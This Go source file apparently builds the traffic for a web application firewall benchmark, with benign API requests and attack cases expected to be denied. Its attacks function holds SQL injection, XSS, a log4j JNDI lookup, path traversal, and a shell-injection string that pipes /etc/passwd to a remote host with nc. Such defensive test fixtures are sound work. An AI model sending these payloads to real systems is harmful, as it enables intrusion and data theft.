// Package traffic is what the benchmark of the WAF sends: benign requests of an API, attacks, and the worst that somebody
// thinks out who knows how the WAF saves its work. Every text is either in this folder or in a public corpus whose folder is
// given; nothing is drawn by chance that isn't drawn from one seed.
package traffic

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"

	"github.com/gatehouse-sec/gatehouse/bench/firewall"
)

// Verdict is what a case demands of a rival.
type Verdict string

// The verdicts.
const (
	Allowed Verdict = "allowed"         // 200
	Denied  Verdict = "denied"          // 403
	AsPlain Verdict = "as plain Coraza" // whatever plain Coraza says; 413 is admitted
)

// Goal is what Gatehouse's WAF may add to a request: so many milliseconds, or such a part of what Coraza adds in the same
// run. The zero Goal is none.
type Goal struct {
	Millis float64 // 0: only the part counts
	Part   float64
}

// Case is one line of the table. Its requests are sent in turn; they differ, so that remembering verdicts is no way to win.
type Case struct {
	Name     string
	Group    string // benign, attack or adversary
	Verdict  Verdict
	Goal     Goal
	Requests []firewall.Request
	Long     bool // left out when there is little time
	Sift     bool // drop what plain Coraza denies or Gatehouse refuses without a WAF: others' texts, of which only these are benign
}

const variants = 16 // of each case

// Cases gives all of them. Naughty are strings that break programs, see Corpora.
func Cases(naughty []string) []Case {
	list := benign()
	list = append(list, Case{Name: "naughty strings, benign part, JSON", Group: "benign", Verdict: Allowed, Goal: Goal{Part: 1}, Requests: each(naughty, noteOf), Sift: true})
	list = append(list, attacks()...)
	return append(list, adversaries()...)
}

func benign() []Case {
	opaque := Goal{Part: 1} // without a figure of its own, it must at least not cost more
	return []Case{
		{Name: "trivial GET", Group: "benign", Verdict: Allowed, Goal: Goal{0.06, 1. / 12}, Requests: vary(func(i int) firewall.Request {
			return firewall.Request{Method: "GET", Target: "/plain/" + strconv.Itoa(i+1), Fields: [][2]string{{"User-Agent", "bench/1"}, {"Accept", "*/*"}}}
		})},
		{Name: "browser's GET with cookies", Group: "benign", Verdict: Allowed, Goal: Goal{0.12, 1. / 20}, Requests: vary(func(i int) firewall.Request {
			cookies := fmt.Sprintf("theme=dark; lang=en; visit=%d; session=%032x; cart=SKU-%05d.SKU-%05d; consent=necessary", i, i*7919, i, i+1)
			return firewall.Request{Method: "GET", Target: fmt.Sprintf("/orders/%d?fields=total", i+1), Fields: append(browser(), [2]string{"Cookie", cookies})}
		})},
		{Name: "1 KiB JSON, 66 leaves", Group: "benign", Verdict: Allowed, Goal: Goal{0.20, 1. / 80}, Requests: vary(func(i int) firewall.Request { return order(i, 16, "", nil) })},
		{Name: "10 KiB JSON, 642 leaves", Group: "benign", Verdict: Allowed, Goal: Goal{1.2, 1. / 150}, Requests: vary(func(i int) firewall.Request { return order(i, 160, "", nil) })},
		{Name: "100 KiB multipart, an image", Group: "benign", Verdict: Allowed, Goal: opaque, Requests: vary(picture)},
		{Name: "100 KiB octet-stream, declared opaque", Group: "benign", Verdict: Allowed, Goal: opaque, Requests: vary(func(i int) firewall.Request {
			return firewall.Request{Method: "POST", Target: "/blobs", Fields: with("Content-Type", "application/octet-stream"), Body: noise(uint64(i), 100<<10)}
		})},
		{Name: "free text in eight languages, JSON", Group: "benign", Verdict: Allowed, Goal: opaque, Requests: vary(func(i int) firewall.Request {
			return noteOf(strings.Join(turned(Prose(), i), "\n\n"))
		})},
		{Name: "code and SQL talked about, JSON", Group: "benign", Verdict: Allowed, Goal: opaque, Requests: vary(func(i int) firewall.Request { return noteOf(strings.Join(turned(Talk(), i), "\n")) })},
	}
}

func attacks() []Case {
	goal := Goal{Part: 1.1}
	const sqli, xss, shell, jndi, traversal = "1' UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
		"x; cat /etc/passwd | nc 203.0.113.9 4444", "${jndi:ldap://203.0.113.9/a}", "../../../../../../etc/passwd"
	query := func(text string) func(int) firewall.Request {
		return func(i int) firewall.Request { return Query(text + strconv.Itoa(i)) }
	}
	inOrder := func(text string) func(int) firewall.Request {
		return func(i int) firewall.Request { return order(i, 160, text, nil) }
	}
	form := func(before string) func(int) firewall.Request {
		return func(i int) firewall.Request {
			return firewall.Request{Method: "POST", Target: "/forms", Fields: with("Content-Type", "application/x-www-form-urlencoded"),
				Body: []byte(url.Values{"name": {"Ann " + strconv.Itoa(i)}, "comment": {before + shell}}.Encode())}
		}
	}
	field := [2]string{"X-Api-Version", jndi}
	var list []Case
	for _, a := range []struct {
		name         string
		small, large func(int) firewall.Request
	}{
		{"SQL injection, query", query(sqli), inOrder(sqli)},
		{"script in a JSON leaf", func(i int) firewall.Request { return noteOf(fmt.Sprint(xss, i)) }, inOrder(xss)},
		{"shell in a form", form(""), form(strings.Repeat(Prose()[0]+"\n", 8)[:10<<10])},
		{"log4j in a field", func(i int) firewall.Request {
			return firewall.Request{Method: "GET", Target: "/plain/" + strconv.Itoa(i+1), Fields: append(with("", ""), field)}
		}, func(i int) firewall.Request { return order(i, 160, "", [][2]string{field}) }},
		{"traversal, query", query(traversal), inOrder(traversal)},
	} {
		list = append(list, Case{Name: a.name, Group: "attack", Verdict: Denied, Goal: goal, Requests: vary(a.small)},
			Case{Name: a.name + "; in 10 KiB", Group: "attack", Verdict: Denied, Goal: goal, Requests: vary(a.large), Long: a.name != "SQL injection, query"})
	}
	return list
}

// Query is a search for a text.
func Query(text string) firewall.Request {
	return firewall.Request{Method: "GET", Target: "/search?q=" + url.QueryEscape(text), Fields: browser()}
}

// Note is a JSON body with a text as its one leaf. Invalid UTF-8 is replaced, as JSON has none.
func Note(text string) firewall.Request { return noteOf(text) }

func noteOf(text string) firewall.Request { return post("/notes", map[string]any{"text": text}) }

// tags is a JSON body with texts as leaves.
func tags(texts []string) firewall.Request {
	return post("/notes", map[string]any{"text": "see tags", "tags": texts})
}

// order is a benign order with four leaves for each item and two more. Attack, when there is one, is the last item's name.
func order(variant, items int, attack string, fields [][2]string) firewall.Request {
	type item struct {
		SKU      string      `json:"sku"`
		Name     string      `json:"name"`
		Quantity int         `json:"quantity"`
		Price    json.Number `json:"price"`
	}
	list := make([]item, items)
	for i := range list {
		list[i] = item{fmt.Sprintf("SKU-%05d", i+variant), "shirt", (i+variant)%7 + 1, json.Number(fmt.Sprintf("%d.50", 10+i))}
	}
	if attack != "" {
		list[items-1].Name = attack
	}
	r := post("/orders", struct {
		Customer string `json:"customer"`
		Note     string `json:"note"`
		Items    []item `json:"items"`
	}{"Ann Miller", "please ring twice", list})
	r.Fields = append(r.Fields, fields...)
	return r
}

func post(target string, value any) firewall.Request {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false) // a client sends < as it is
	_ = e.Encode(value)    // of texts and numbers, which can always be written
	return firewall.Request{Method: "POST", Target: target, Fields: with("Content-Type", "application/json"), Body: bytes.TrimSpace(b.Bytes())}
}

func picture(i int) firewall.Request {
	const boundary = "----bench7MA4YWxkTrZu0gW"
	var b bytes.Buffer
	fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nThe harbour in the evening, no. %d\r\n", boundary, i)
	fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"harbour-%d.png\"\r\nContent-Type: image/png\r\n\r\n", boundary, i)
	b.WriteString("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89") // what a reader of pictures reads first
	b.Write(noise(uint64(i), 100<<10))
	fmt.Fprintf(&b, "\r\n--%s--\r\n", boundary)
	return firewall.Request{Method: "POST", Target: "/pictures", Fields: with("Content-Type", "multipart/form-data; boundary="+boundary), Body: b.Bytes()}
}

// browser gives the fields that a browser sends.
func browser() [][2]string {
	return [][2]string{
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36"},
		{"Accept", "application/json, text/plain, */*"}, {"Accept-Language", "en-GB,en;q=0.9,de;q=0.8"}, {"Accept-Encoding", "gzip, deflate, br"},
		{"Referer", "https://shop.example/orders"}, {"Sec-Fetch-Mode", "cors"}, {"Sec-Fetch-Site", "same-site"},
	}
}

// with gives the fields of an API's client and one more, unless its name is empty.
func with(name, value string) [][2]string {
	list := [][2]string{{"User-Agent", "shop-app/4.2"}, {"Accept", "application/json"}}
	if name != "" {
		list = append(list, [2]string{name, value})
	}
	return list
}

func vary(make func(i int) firewall.Request) []firewall.Request {
	var list []firewall.Request
	for i := range variants {
		list = append(list, make(i))
	}
	return list
}

func each(texts []string, make func(string) firewall.Request) []firewall.Request {
	var list []firewall.Request
	for _, t := range texts {
		list = append(list, make(t))
	}
	return list
}

// noise gives bytes that look like a compressed picture's.
func noise(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, 42))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// turned begins a list at another place.
func turned(list []string, i int) []string {
	i %= len(list)
	return append(append([]string(nil), list[i:]...), list[:i]...)
}
